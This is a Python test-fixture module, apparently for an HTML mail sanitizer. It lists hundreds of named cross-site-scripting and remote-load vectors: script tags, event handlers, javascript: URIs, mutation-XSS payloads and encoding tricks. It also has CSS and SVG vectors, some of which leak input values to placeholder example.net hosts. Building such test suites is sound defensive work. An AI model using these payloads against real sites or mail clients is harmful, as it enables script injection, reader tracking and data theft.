"""What strangers write into HTML mail to run, to load, to cover or to lead away.

In each, ``RUN`` stands for a call that tells the vector's number and ``HOST`` for a host name of its own, so that one
page can hold them all and what happens still says whose doing it was.
"""

from typing import Literal, NamedTuple

Attempt = Literal["script", "request", "cover", "navigate", "clobber"]


class Vector(NamedTuple):
    """``listed``: what it would load stands where an address is expected, so that ``SafeHtml.remote`` must name it."""

    name: str
    html: str
    attempts: Attempt
    listed: bool = False

    def numbered(self, number: int) -> str:
        """With its own call and host."""
        return self.html.replace("RUN", f"ran({number})").replace("HOST", host_of(number))


def host_of(number: int) -> str:
    """The host that only this vector names."""
    return f"v{number}.example.net"


def _script(name: str, html: str) -> Vector:
    return Vector(name, html, "script")


def _request(name: str, html: str) -> Vector:
    return Vector(name, html, "request")


def _listed(name: str, html: str) -> Vector:
    return Vector(name, html, "request", listed=True)


def _styled(name: str, style: str) -> Vector:
    """One that loads by a url() in a style attribute; the style must not hold double quotes."""
    return _listed(name, f'<div style="{style}">styled</div>')


def _cover(name: str, html: str) -> Vector:
    return Vector(name, html, "cover")


PLAIN = (
    _script("script", "<script>RUN</script>"),
    _script("script-upper-case", "<SCRIPT TYPE=text/javascript>RUN</SCRIPT>"),
    _script("script-module", "<script type=module>RUN</script>"),
    _script("script-with-slash", "<script/x>RUN</script>"),
    _script("script-in-script", "<scr<script>ipt>RUN</scr</script>ipt>"),
    _script("script-after-bracket", "<<script>RUN//<</script>"),
    _script("script-unclosed", "<script>RUN//"),
    _script("script-with-html-comment", "<script><!--\nRUN\n//--></script>"),
    _script("script-end-with-attributes", "<script>RUN</script x='y'>"),
    _script("script-in-table", "<table><script>RUN</script><tr><td>x</table>"),
    _script("script-in-select", "<select><script>RUN</script></select>"),
    _script("script-in-conditional-comment", "<!--[if gte IE 4]><script>RUN</script><![endif]-->"),
    _script("script-after-revealed-condition", "<![if !IE]><script>RUN</script><![endif]>"),
    _script("script-in-title", "<title><script>RUN</script></title><script>RUN</script>"),
    _script("script-of-data", "<script src='data:text/javascript,RUN'></script>"),
    _script("script-remote", "<script src=http://HOST/a.js></script>"),
    _script("script-without-scheme", "<script src=//HOST/a.js></script>"),
    _script("script-of-svg", "<svg><script>RUN</script></svg>"),
    _script("script-of-svg-with-references", "<svg><script>&#114;an&#40;1&#41;;RUN</script></svg>"),
    _script("script-of-svg-by-link", "<svg><script href='data:text/javascript,RUN'></script></svg>"),
    _script("script-of-svg-by-xlink", "<svg><script xlink:href='data:text/javascript,RUN'/></svg>"),
    _script("script-of-nonsense-comment", "<!-- x --!><script>RUN</script>"),
    _script("script-after-short-comment", "<!--><script>RUN</script>-->"),
    _script("script-after-dashed-comment", "<!---><script>RUN</script>-->"),
    _script("script-after-bogus-comment", "</ ><script>RUN</script>"),
    _script("script-after-question", "<?xml version='1.0'?><script>RUN</script>"),
    _script("script-after-cdata", "<![CDATA[<script>]]>RUN</script><script>RUN</script>"),
    _script("script-from-a-frame-name", "<iframe name=RUN src='javascript:eval(name)'></iframe>"),
)

HANDLERS = (
    _script("img-error", "<img src=x: onerror=RUN>"),
    _script("img-error-slashes", "<img/src='x:'/onerror=RUN>"),
    _script("img-error-backticks", "<img src=`x:`onerror=RUN>"),
    _script("img-error-form-feed", "<img\x0csrc=x:\x0conerror=RUN>"),
    _script("img-error-no-space", "<img src='x:'onerror='RUN'>"),
    _script("img-error-reference", "<img src=x: onerror='&#x72;an&#40;1);RUN'>"),
    _script("img-error-mixed-case", "<iMg SrC=x: oNeRrOr=RUN>"),
    _script("img-error-after-quote", "<img title='\"' src=x: onerror=RUN>"),
    _script("img-error-after-broken-quote", '<img """><img src=x: onerror=RUN>">'),
    _script("img-error-no-value", "<img src onerror=RUN>"),
    _script("img-load", "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload=RUN>"),
    _script("img-srcset-error", "<img srcset='x: 1x' onerror=RUN>"),
    _script("image-element-error", "<image src=x: onerror=RUN>"),
    _script("svg-load", "<svg onload=RUN>"),
    _script("svg-load-self-closed", "<svg/onload=RUN/>"),
    _script("svg-image-error", "<svg><image href=x: onerror=RUN></svg>"),
    _script("svg-animate-begin", "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>"),
    _script("svg-set-begin", "<svg><set onbegin=RUN attributeName=x to=y dur=1s></svg>"),
    _script("body-load", "<body onload=RUN>"),
    _script("body-pageshow", "<body onpageshow=RUN>"),
    _script("body-by-second-tag", "<p>x</p><body onmouseover=RUN>"),
    _script("html-by-second-tag", "<p>x</p><html onmouseover=RUN>"),
    _script("frameset-load", "<frameset onload=RUN><frame src=about:blank></frameset>"),
    _script("iframe-load", "<iframe onload=RUN></iframe>"),
    _script("object-error", "<object data=x: onerror=RUN></object>"),
    _script("embed-load", "<embed src=about:blank onload=RUN>"),
    _script("details-toggle", "<details open ontoggle=RUN><summary>x</summary>y</details>"),
    _script("audio-error", "<audio src=x: onerror=RUN></audio>"),
    _script("video-error", "<video src=x: onerror=RUN></video>"),
    _script("source-error", "<video><source src=x: onerror=RUN></video>"),
    _script("video-start", "<video autoplay onloadstart=RUN src='data:video/mp4,x'></video>"),
    _script("link-error", "<link rel=stylesheet href=x: onerror=RUN>"),
    _script("style-load", "<style onload=RUN>p{}</style>"),
    _script("script-error", "<script src=x: onerror=RUN></script>"),
    _script("autofocus-input", "<input autofocus onfocus=RUN>"),
    _script("autofocus-any", "<p contenteditable autofocus onfocus=RUN>x</p>"),
    _script("autofocus-tabindex", "<b tabindex=0 autofocus onfocus=RUN>x</b>"),
    _script("select-focus", "<select autofocus onfocus=RUN></select>"),
    _script("textarea-focus", "<textarea autofocus onfocus=RUN></textarea>"),
    _script("marquee-start", "<marquee onstart=RUN>x</marquee>"),
    _script("click", "<p onclick=RUN>x</p>"),
    _script("click-on-unknown", "<x onclick=RUN>x</x>"),
    _script("click-on-custom", "<x-y onclick=RUN>x</x-y>"),
    _script("click-slash", "<p/onclick=RUN>x</p>"),
    _script("mouse-over", "<b onmouseover=RUN>x</b>"),
    _script("mouse-enter", "<td onmouseenter=RUN>x<table><td onmouseenter=RUN>x</table>"),
    _script("pointer-down", "<font onpointerdown=RUN>x</font>"),
    _script("wheel", "<div onwheel=RUN>x</div>"),
    _script("copy", "<div oncopy=RUN>x</div>"),
    _script("key-down", "<div onkeydown=RUN>x</div>"),
    _script("drag", "<div draggable=true ondragstart=RUN>x</div>"),
    _script("context-menu", "<div oncontextmenu=RUN>x</div>"),
    _script("popover-toggle", "<button popovertarget=pop>x</button><p popover id=pop onbeforetoggle=RUN>y</p>"),
    _script("command", "<button commandfor=cmd command=show-popover>x</button><p popover id=cmd ontoggle=RUN>y</p>"),
    _script("animation-start", "<style>@keyframes k{}</style><p style='animation:k 1s' onanimationstart=RUN>x</p>"),
    _script("transition-run", "<a style='transition:color 1s' ontransitionrun=RUN href=#>x</a>"),
    _script("visibility", "<p style='content-visibility:auto' oncontentvisibilityautostatechange=RUN>x</p>"),
    _script("scroll-end", "<div style='overflow:scroll;height:9px' onscroll=RUN onscrollend=RUN><br><br><br></div>"),
    _script("track-error", "<video controls><track default src='data:text/vtt,x' onerror=RUN onload=RUN></video>"),
    _script("attribute-after-nul", "<p \0onclick=RUN>x</p><p on\0click=RUN>x</p><p onclick\0=RUN onclick=RUN>y</p>"),
)

SCHEMES = (
    _script("link-javascript", "<a href='javascript:RUN'>x</a>"),
    _script("link-mixed-case", "<a href='JaVaScRiPt:RUN'>x</a>"),
    _script("link-leading-space", "<a href='  javascript:RUN'>x</a>"),
    _script("link-leading-control", "<a href='\x01\x1fjavascript:RUN'>x</a>"),
    _script("link-leading-reference", "<a href='&#1;&#31;javascript:RUN'>x</a>"),
    _script("link-tab", "<a href='java\tscript:RUN'>x</a>"),
    _script("link-line-break", "<a href='java\nscript\r\n:RUN'>x</a>"),
    _script("link-tab-reference", "<a href='java&Tab;script&NewLine;&colon;RUN'>x</a>"),
    _script("link-decimal-references", "<a href='&#106;&#97;vascript&#58;RUN'>x</a>"),
    _script("link-long-references", "<a href='&#0000106avascript&#x0003a;RUN'>x</a>"),
    _script("link-references-unended", "<a href='&#106avascript&#58RUN'>x</a>"),
    _script("link-like-a-host", "<a href='javascript://example.org/%0aRUN'>x</a>"),
    _script("link-after-allowed", "<a href='https://example.org/' href='javascript:RUN'>x</a>"),
    _script("link-before-allowed", "<a href='javascript:RUN' href='https://example.org/'>x</a>"),
    _script("link-with-mail-first", "<a href='javascript:/*mailto:a@example.org*/RUN'>x</a>"),
    _script("link-with-line-and-http", "<a href='javascript:RUN//\nhttp://example.org'>x</a>"),
    _script("link-percent-encoded", "<a href='javascript%3ARUN'>x</a><a href='javascript:RUN%20'>y</a>"),
    _script("link-vbscript", "<a href='vbscript:RUN'>x</a><a href='livescript:RUN'>y</a>"),
    _script("link-data", "<a href='data:text/html,<script>RUN</script>'>x</a>"),
    _script("link-data-base64", "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>"),
    _script("link-blob", "<a href='blob:http://mail.example.org/00000000-0000-0000-0000-000000000000'>x</a>"),
    _script("link-view-source", "<a href='view-source:javascript:RUN'>x</a><a href='feed:javascript:RUN'>y</a>"),
    _script("link-unicode-look-alike", "<a href='java\u017fcript:RUN'>x</a><a href='\u202ejavascript:RUN'>y</a>"),
    _script("link-full-width-colon", "<a href='javascript\uff1aRUN'>x</a><a href='javascript&#xff1a;RUN'>y</a>"),
    _script("link-nul", "<a href='java\0script:RUN'>x</a><a href='\0javascript:RUN'>y</a>"),
    _script("link-xlink", "<a xlink:href='javascript:RUN'>x</a>"),
    _script("link-no-break-space", "<a href='\u00a0javascript:RUN'>x</a>"),
    _script("link-target-self", "<a target=_self href='javascript:RUN'>x</a>"),
    _script("area-javascript", "<map name=m><area shape=default href='javascript:RUN'></map><img usemap=#m>"),
    _script("svg-link", "<svg><a href='javascript:RUN'><text y=9>x</text></a></svg>"),
    _script("svg-xlink", "<svg><a xlink:href='javascript:RUN'><rect width=9 height=9 /></a></svg>"),
    _script("math-link", "<math><mtext href='javascript:RUN'>x</mtext></math>"),
    _script("math-action", "<math><maction actiontype=statusline xlink:href='javascript:RUN'>x</maction></math>"),
    _script("form-action", "<form action='javascript:RUN'><input type=submit></form>"),
    _script("button-formaction", "<form><button formaction='javascript:RUN'>x</button></form>"),
    _script("input-formaction", "<form><input type=image formaction='javascript:RUN'></form>"),
    _script("form-by-id", "<form id=f></form><button form=f formaction='javascript:RUN'>x</button>"),
    _script("iframe-javascript", "<iframe src='javascript:parent.RUN'></iframe>"),
    _script("iframe-srcdoc", "<iframe srcdoc='<script>parent.RUN</script>'></iframe>"),
    _script("iframe-srcdoc-references", "<iframe srcdoc='&lt;svg onload=&#34;RUN&#34;&gt;'></iframe>"),
    _script("iframe-data", "<iframe src='data:text/html,<script>RUN</script>'></iframe>"),
    _script("object-javascript", "<object data='javascript:RUN'></object>"),
    _script("object-data", "<object data='data:text/html,<script>RUN</script>'></object>"),
    _script("object-param", "<object><param name=src value='javascript:RUN'><param name=code value=x></object>"),
    _script("embed-javascript", "<embed src='javascript:RUN'>"),
    _script(
        "embed-svg",
        "<embed type=image/svg+xml src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22RUN%22/>'>",
    ),
    _script("frame-javascript", "<frameset><frame src='javascript:parent.RUN'></frameset>"),
    _script("img-javascript", "<img src='javascript:RUN'><img lowsrc='javascript:RUN' dynsrc='javascript:RUN'>"),
    _script(
        "img-svg-data", "<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22RUN%22/>'>"
    ),
    _script("input-javascript", "<input type=image src='javascript:RUN'>"),
    _script("background-javascript", "<table background='javascript:RUN'><td background='javascript:RUN'>x</table>"),
    _script("meta-javascript", "<meta http-equiv=refresh content='0;url=javascript:RUN'>"),
    _script("meta-data", "<meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>"),
    _script("base-javascript", "<base href='javascript:/a/-RUN//'><a href='#'>x</a>"),
    _script("link-import", "<link rel=import href='data:text/html,<script>RUN</script>'>"),
    _script("isindex", "<isindex action='javascript:RUN' type=submit>"),
    _script("applet", "<applet code='javascript:RUN'></applet><bgsound src='javascript:RUN'>"),
    _script(
        "xml-island",
        "<xml id=i><x>&lt;img src=x: onerror=RUN&gt;</x></xml><p datasrc=#i datafld=x dataformatas=html>x</p>",
    ),
    _script("link-style", "<a style='behavior:url(#default#time2)' href='javascript:RUN' onclick=RUN>x</a>"),
)

SVG = (
    _script(
        "svg-animate-link",
        "<svg><a id=x><text y=9>x</text><animate attributeName=href values='javascript:RUN'></a></svg>",
    ),
    _script(
        "svg-set-link", "<svg><a><set attributeName=xlink:href to='javascript:RUN'></set><text y=9>x</text></a></svg>"
    ),
    _script(
        "svg-animate-other",
        "<svg><animate xlink:href=#t attributeName=href from=1 to='javascript:RUN'/><a id=t><text y=9>x</text></a></svg>",
    ),
    _script("svg-set-handler", "<svg><rect width=9 height=9><set attributeName=onmouseover to=RUN></rect></svg>"),
    _script(
        "svg-use-data",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x: onerror=RUN /></svg>#x'/></svg>",
    ),
    _script(
        "svg-foreign-object", "<svg><foreignObject><body onload=RUN><img src=x: onerror=RUN></foreignObject></svg>"
    ),
    _script(
        "svg-foreign-frame",
        "<svg><foreignObject><iframe srcdoc='<script>parent.RUN</script>'></iframe></foreignObject></svg>",
    ),
    _script("svg-desc-leaves", "<svg><desc><img src=x: onerror=RUN></desc></svg>"),
    _script("svg-title-leaves", "<svg><title><img src=x: onerror=RUN></title></svg>"),
    _script(
        "svg-handler-element",
        "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>RUN</handler></svg>",
    ),
    _script("svg-with-doctype", "<!DOCTYPE svg [<!ENTITY x 'RUN'>]><svg onload='RUN'></svg>"),
    _script("svg-upper-case", "<SVG ONLOAD=RUN></SVG>"),
    _script("svg-vertical-tab", "<svg\x0bonload=RUN><svg\x0c onload=RUN>"),
    _script(
        "svg-prefixed",
        "<svg:svg xmlns:svg='http://www.w3.org/2000/svg'><svg:script>RUN</svg:script></svg:svg><svg onload=RUN>",
    ),
    _request("svg-image", "<svg><image href='http://HOST/a.png' width=9 height=9 /></svg>"),
    _request("svg-image-xlink", "<svg><image xlink:href='http://HOST/a.png' width=9 height=9 /></svg>"),
    _request("svg-use", "<svg><use href='http://HOST/a.svg#x'/></svg>"),
    _request(
        "svg-fe-image",
        "<svg><filter id=f><feImage href='http://HOST/a.png'/></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
    ),
    _request("svg-fill", "<svg><rect width=9 height=9 fill='url(http://HOST/a.svg#x)'/></svg>"),
    _request(
        "svg-mask",
        "<svg><rect width=9 height=9 mask='url(http://HOST/a.svg#x)' clip-path='url(http://HOST/b.svg#x)'/></svg>",
    ),
    _request("svg-style", "<svg><style>@import 'http://HOST/a.css';</style></svg>"),
    _request(
        "svg-set-image", "<svg><image width=9 height=9><set attributeName=href to='http://HOST/a.png'/></image></svg>"
    ),
    _request("svg-text-path", "<svg><text><textPath href='http://HOST/a.svg#p'>x</textPath></text></svg>"),
)

MUTATIONS = (
    _script("mx-noscript", "<noscript><p title='</noscript><img src=x: onerror=RUN>'></noscript>"),
    _script("mx-noscript-style", "<noscript><style></noscript><img src=x: onerror=RUN></style>"),
    _script("mx-noembed", "<noembed><p title='</noembed><img src=x: onerror=RUN>'></noembed>"),
    _script("mx-noframes", "<noframes><p title='</noframes><img src=x: onerror=RUN>'></noframes>"),
    _script("mx-iframe-text", "<iframe><p title='</iframe><img src=x: onerror=RUN>'></iframe>"),
    _script("mx-xmp", "<xmp><p title='</xmp><img src=x: onerror=RUN>'></xmp>"),
    _script("mx-plaintext", "<plaintext></plaintext><img src=x: onerror=RUN>"),
    _script("mx-textarea", "<textarea><p title='</textarea><img src=x: onerror=RUN>'></textarea>"),
    _script("mx-title", "<title><p title='</title><img src=x: onerror=RUN>'></title>"),
    _script("mx-style", "<style><p title='</style><img src=x: onerror=RUN>'></style>"),
    _script("mx-style-comment", "<style><!--</style><img src=x: onerror=RUN>--></style>"),
    _script("mx-style-media", "<style media='</style><img src=x: onerror=RUN>'></style>"),
    _script(
        "mx-comment-in-attribute", "<p title='--><img src=x: onerror=RUN>'><!-- <p title='--><img src=x: onerror=RUN>'>"
    ),
    _script("mx-template", "<template><img src=x: onerror=RUN><template><s></template></template>"),
    _script("mx-template-shadow", "<p><template shadowrootmode=open><img src=x: onerror=RUN></template></p>"),
    _script("mx-template-table", "<table><template><tr><td><img src=x: onerror=RUN></template></table>"),
    _script(
        "mx-math-glyph",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x: onerror=RUN&gt;'>",
    ),
    _script(
        "mx-math-malignmark",
        "<math><mtext><table><malignmark><style><![CDATA[</style><img title=']]&gt;&lt;img src=x: onerror=RUN&gt;'>",
    ),
    _script("mx-form-in-form", "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN>"),
    _script(
        "mx-form-table",
        "<form><div></form><form><table><form><svg><style><a title='</style><img src=x: onerror=RUN>'></form>",
    ),
    _script("mx-svg-style", "<svg></p><style><a id='</style><img src=x: onerror=RUN>'>"),
    _script("mx-svg-paragraph-end", "<svg></p><title><style><!--</style><img src=x: onerror=RUN>--></title>"),
    _script("mx-svg-break-end", "<svg></br><style><p title='</style><img src=x: onerror=RUN>'>"),
    _script("mx-math-style", "<math><style><p title='</style><img src=x: onerror=RUN>'></style></math>"),
    _script(
        "mx-math-annotation",
        "<math><annotation-xml encoding='text/html'><style><img src=x: onerror=RUN></style></annotation-xml></math>",
    ),
    _script(
        "mx-math-annotation-svg",
        "<math><annotation-xml><svg><foreignObject><style><p title='</style><img src=x: onerror=RUN>'></svg></math>",
    ),
    _script("mx-math-mi-option", "<math><mi><option><style></mi></option><img src=x: onerror=RUN></style></math>"),
    _script("mx-svg-desc", "<svg><desc><style><p title='</style></desc></svg><img src=x: onerror=RUN>'>"),
    _script("mx-svg-cdata", "<svg><![CDATA[><img src=x: onerror=RUN>]]></svg>"),
    _script("mx-svg-cdata-p", "<svg><p><![CDATA[</p><img src=x: onerror=RUN>]]></svg>"),
    _script(
        "mx-font-leaves-svg", "<svg><font face=x><style><img title='</style><img src=x: onerror=RUN>'></font></svg>"
    ),
    _script("mx-font-plain", "<svg><font><style><p title='</style><img src=x: onerror=RUN>'></font></svg>"),
    _script("mx-math-select", "<select><math><mtext><option><style></select><img src=x: onerror=RUN></style>"),
    _script("mx-select-noscript", "<select><iframe></select><img src=x: onerror=RUN></iframe>"),
    _script(
        "mx-select-in-table", "<table><tr><td><select><tr><td><xmp></select><img src=x: onerror=RUN></xmp></table>"
    ),
    _script("mx-option-in-table", "<table><option><table><style><p title='</style><img src=x: onerror=RUN>'></table>"),
    _script("mx-foster", "<table><a href=x><table><a title='<img src=x: onerror=RUN>'>x</table></a>"),
    _script("mx-foster-svg", "<table><svg><tr><td><style><p title='</style><img src=x: onerror=RUN>'></table>"),
    _script("mx-link-in-link", "<a href=1><p><a href=2 title='</a><img src=x: onerror=RUN>'>x</a></p></a>"),
    _script("mx-link-in-table-in-link", "<a><table><td><a><table><td><a title='<img src=x: onerror=RUN>'></table>"),
    _script("mx-heading-nest", "<h1><h2 title='</h2><img src=x: onerror=RUN>'><h1></h2><svg onload=RUN>"),
    _script("mx-nobr", "<nobr><table><nobr title='<svg onload=RUN>'>x</nobr></table></nobr>"),
    _script("mx-formatting-flood", "<b><i><u><s>" * 30 + "<p title='<img src=x: onerror=RUN>'>x<svg onload=RUN>"),
    _script("mx-deep", "<div>" * 600 + "<svg><style><p title='</style><img src=x: onerror=RUN>'>"),
    _script("mx-deep-math", "<math><mtext>" * 130 + "<mglyph><style><img title='</style><img src=x: onerror=RUN>'>"),
    _script("mx-deep-dl", "<dl><dd>" * 300 + "<style><p title='</style><img src=x: onerror=RUN>'>"),
    _script("mx-pre-line-feed", "<pre>\n\n<img src=x: onerror=RUN></pre>"),
    _script(
        "mx-listing",
        "<listing>\n&lt;img src=x: onerror=RUN&gt;</listing><listing title='</listing><img src=x: onerror=RUN>'>",
    ),
    _script("mx-ruby", "<ruby><rb><rtc><rt title='</ruby><svg onload=RUN>'><rp><svg onload=RUN></ruby>"),
    _script(
        "mx-caption",
        "<table><caption><table><caption title='</table><img src=x: onerror=RUN>'><svg onload=RUN></table>",
    ),
    _script("mx-colgroup", "<table><colgroup><template><col></template><img src=x: onerror=RUN></colgroup></table>"),
    _script(
        "mx-frameset-late",
        "<p></p><frameset><noframes><img src=x: onerror=RUN></noframes><frame onload=RUN></frameset>",
    ),
    _script("mx-keygen", "<keygen autofocus onfocus=RUN><menuitem onclick=RUN>x"),
    _script("mx-dialog", "<dialog open><svg><title><style><p title='</style><img src=x: onerror=RUN>'></dialog>"),
    _script("mx-image-alias", "<svg><image><style><p title='</style><img src=x: onerror=RUN>'></image></svg>"),
    _script("mx-backtick", "<img alt='``onerror=RUN' src=x:><img alt=`><img src=x: onerror=RUN>`>"),
    _script(
        "mx-entity-twice",
        "&lt;img src=x: onerror=RUN&gt;<p title='&amp;lt;img src=x: onerror=RUN&amp;gt;'>&amp;lt;svg onload=RUN&amp;gt;",
    ),
    _script("mx-attribute-escape", "<p title='&quot;&gt;&lt;img src=x: onerror=RUN&gt;'>x</p>"),
    _script(
        "mx-link-shape",
        "<p title='<a><img src=x: onerror=RUN>'>x</p><p title='&lt;a&gt;&quot;&lt;svg onload=RUN&gt;'>y</p>",
    ),
    _script("mx-style-of-link", "<a style='color:red\"><svg onload=RUN>' title='<a href=x>'>x</a>"),
    _script("mx-angle-in-name", "<a <svg onload=RUN>x</a><p a<img src=x: onerror=RUN>"),
    _script("mx-x-svg", "<x-svg><style><p title='</style><img src=x: onerror=RUN>'></x-svg><x-svg onclick=RUN>"),
    _script("mx-svg-by-cut", "<sv<svg>g onload=RUN><s\0vg onload=RUN><svg/onload=RUN"),
    _script("mx-is", "<p is=x-y onclick=RUN>x</p><button is=x-y onclick=RUN>y</button>"),
    _script("mx-processing", "<?p <img src=x: onerror=RUN>?><svg><?p ><img src=x: onerror=RUN></svg>"),
    _script("mx-doctype", "<!DOCTYPE p '><img src=x: onerror=RUN>'><!DOCTYPE <svg onload=RUN>"),
)

ENCODINGS = (
    _script("utf-7", "+ADw-script+AD4-RUN+ADw-/script+AD4-<meta charset=utf-7>"),
    _script("utf-16-mark", "\ufeff<script>RUN</script>"),
    _script("utf-16-swapped", "\ufffe\u3c00\u7300<svg onload=RUN>"),
    _script("nul-in-name", "<scr\0ipt>RUN</scr\0ipt><\0script>RUN</script><script\0>RUN</script>"),
    _script("nul-in-handler", "<img src=x: on\0error=RUN onerror\0=RUN><img src=x:\0 onerror=RUN>"),
    _script("nul-before", "\0<svg onload=RUN>\0"),
    _script("c1-controls", "<p\x85onclick=RUN>x</p><svg\xa0onload=RUN><img\u2028src=x:\u2028onerror=RUN>"),
    _script("long-s", "<\u017fcript>RUN</\u017fcript><\u017fvg onload=RUN><svg onload=RUN>"),
    _script("full-width", "\uff1cscript\uff1eRUN\uff1c/script\uff1e<\uff53cript>RUN</script>"),
    _script("surrogates", "\ud83d<img src=x: onerror=RUN>\ude00".encode("utf-8", "replace").decode()),
    _script("iso-2022-escapes", "\x1b$B<p title='\x1b(B'><img src=x: onerror=RUN>'>"),
    _script(
        "overlong-look",
        "\u00c0\u00bcscript\u00c0\u00beRUN<meta http-equiv=content-type content='text/html;charset=x-user-defined'><script>RUN</script>",
    ),
    _script("carriage-returns", "<svg\ronload=RUN\r><img\rsrc=x:\ronerror=RUN>"),
)

REMOTE = (
    _listed("img-src", "<img src='http://HOST/a.png'>"),
    _listed("img-src-upper-case", "<IMG SRC='HTTP://HOST/a.png'>"),
    _listed("img-src-tls", "<img src='https://HOST/a.png'>"),
    _listed("img-src-no-scheme", "<img src='//HOST/a.png'>"),
    _listed("img-src-backslashes", "<img src='\\\\HOST\\a.png'>"),
    _listed("img-src-mixed-slashes", "<img src='/\\HOST/a.png'>"),
    _listed("img-src-scheme-backslashes", "<img src='http:\\\\HOST\\a.png'>"),
    _listed("img-src-line-break", "<img src='ht\ntp://HO\tST/a.png'>".replace("HO\tST", "\tHOST")),
    _listed("img-src-spaces", "<img src=' \n http://HOST/a.png '>"),
    _listed("img-src-control", "<img src='&#1;http://HOST/a.png'>"),
    _listed("img-src-references", "<img src='&#104;ttp&colon;&sol;&sol;HOST/a.png'>"),
    _listed("img-src-user", "<img src='http://example.org@HOST/a.png'>"),
    _listed("img-src-pixel", "<img src=http://HOST/a.gif width=1 height=1 border=0 alt='' style='display:block'>"),
    _listed("image-element", "<image src='http://HOST/a.png'>"),
    _listed("img-srcset", "<img srcset='http://HOST/a.png 1x, http://HOST/b.png 2x'>"),
    _listed("img-srcset-tabs", "<img srcset='\n\thttp://HOST/a.png\t2x'>"),
    _listed("img-srcset-commas", "<img srcset='data:image/png;base64,AAAA 1x,http://HOST/a.png 2x' sizes=100vw>"),
    _listed("picture", "<picture><source srcset='http://HOST/a.webp' type=image/webp><img alt=x></picture>"),
    _listed(
        "picture-media", "<picture><source media='(min-width:1px)' srcset='//HOST/a.png'><img src='cid:x'></picture>"
    ),
    _listed("table-background", "<table background='http://HOST/a.png'><tr><td>x</table>"),
    _listed("cell-background", "<table><tr><td background='http://HOST/a.png'>x</table>"),
    _listed("row-background", "<table><tr background='http://HOST/a.png'><td>x</table>"),
    _listed("head-background", "<table><thead background='http://HOST/a.png'><tr><td>x</table>"),
    _listed("video-src", "<video src='http://HOST/a.mp4' preload=auto></video>"),
    _listed("video-poster", "<video poster='http://HOST/a.png'></video>"),
    _listed("video-source", "<video preload=auto><source src='http://HOST/a.mp4'></video>"),
    _listed("audio-src", "<audio src='http://HOST/a.mp3' preload=auto></audio>"),
    _listed("audio-source", "<audio autoplay><source src='http://HOST/a.ogg'></audio>"),
    _styled("css-background", "background:url(http://HOST/a.png)"),
    _styled("css-background-quoted", "background:url('http://HOST/a.png')"),
    _styled("css-background-colour", "background:#fff url(http://HOST/a.png) no-repeat center/cover"),
    _styled("css-background-image", "background-image:url(http://HOST/a.png)"),
    _styled("css-background-layers", "background:none,url(//HOST/a.png),#fff"),
    _styled("css-background-upper-case", "BACKGROUND-IMAGE:URL(http://HOST/a.png)"),
    _styled("css-background-blank", "background:url(\n 'http://HOST/a.png' )"),
    _styled("css-background-unclosed", "background:url(http://HOST/a.png"),
    _styled("css-background-comment", "background/**/:/**/url(http://HOST/a.png)/**/"),
    _styled("css-name-escaped", "background:\\75\\72\\6c(http://HOST/a.png)"),
    _styled("css-address-escaped", "background:url(http\\3a//HOST/a.png)"),
    _styled("css-property-escaped", "b\\61 ckground:u\\72 l('http:\\2f\\2fHOST/a.png')"),
    _styled("css-image-set", "background-image:image-set('http://HOST/a.png' 1x)"),
    _styled("css-webkit-image-set", "background-image:-webkit-image-set(url(http://HOST/a.png) 1x)"),
    _styled("css-cross-fade", "background-image:-webkit-cross-fade(url(http://HOST/a.png),url(http://HOST/b.png),50%)"),
    _styled("css-list-style", "display:list-item;list-style:url(http://HOST/a.png) inside"),
    _styled("css-list-style-image", "display:list-item;list-style-image:url(http://HOST/a.png)"),
    _styled("css-cursor", "cursor:url(http://HOST/a.cur),auto"),
    _styled("css-content", "content:url(http://HOST/a.png)"),
    _styled("css-filter", "filter:url(http://HOST/a.svg#f)"),
    _styled("css-backdrop-filter", "backdrop-filter:url(http://HOST/a.svg#f)"),
    _styled("css-mask", "mask:url(http://HOST/a.svg)"),
    _styled("css-mask-image", "-webkit-mask-image:url(http://HOST/a.png)"),
    _styled("css-border-image", "border:9px solid;border-image:url(http://HOST/a.png) 3"),
    _styled("css-shape-outside", "float:left;shape-outside:url(http://HOST/a.png)"),
    _styled("css-clip-path", "clip-path:url(http://HOST/a.svg#c)"),
    _styled("css-variable", "--a:url(http://HOST/a.png);background:var(--a)"),
    _styled("css-variable-default", "background:var(--none,url(http://HOST/a.png))"),
    _styled("css-important", "background:url(http://HOST/a.png)!important"),
    _styled("css-after-broken", "color:';};background:url(http://HOST/a.png)';background:url(http://HOST/a.png)"),
    _styled("css-binding", "-moz-binding:url(http://HOST/a.xml#x)"),
    _styled("css-behaviour", "behavior:url(http://HOST/a.htc)"),
    _styled("css-src-function", "background:src('http://HOST/a.png')"),
    _styled("css-image-function", "background:image('http://HOST/a.png')"),
    _styled("css-offset-path", "offset-path:url(http://HOST/a.svg#p)"),
    _styled("css-marker", "marker:url(http://HOST/a.svg#m);fill:url(http://HOST/a.svg#f)"),
)

REQUESTS = (
    _request("css-import", "<style>@import url(http://HOST/a.css);</style>"),
    _request("css-import-text", "<style>@import 'http://HOST/a.css' screen;</style>"),
    _request("css-rule", "<style>*{background:url(http://HOST/a.png)}</style>"),
    _request(
        "css-font-face", "<style>@font-face{font-family:f;src:url(http://HOST/a.woff)}p{font-family:f}</style><p>x</p>"
    ),
    _request(
        "css-read-out",
        "<style>a[href^='http']{background:url(http://HOST/read)}</style><a href='https://example.org/'>x</a>",
    ),
    _request("css-read-input", "<style>input[value^='s']{background:url(http://HOST/s)}</style><input value=secret>"),
    _request("css-in-body-end", "</style><style>*{list-style:url(http://HOST/a.png)}</style><ul><li>x</ul>"),
    _request(
        "css-namespace",
        "<style>@namespace url(http://HOST/n);@import url(http://HOST/a.css)</style><style>@import'http://HOST/b.css'</style>",
    ),
    _request("stylesheet", "<link rel=stylesheet href='http://HOST/a.css'>"),
    _request("stylesheet-data", "<link rel=stylesheet href='data:text/css,@import %22http://HOST/a.css%22'>"),
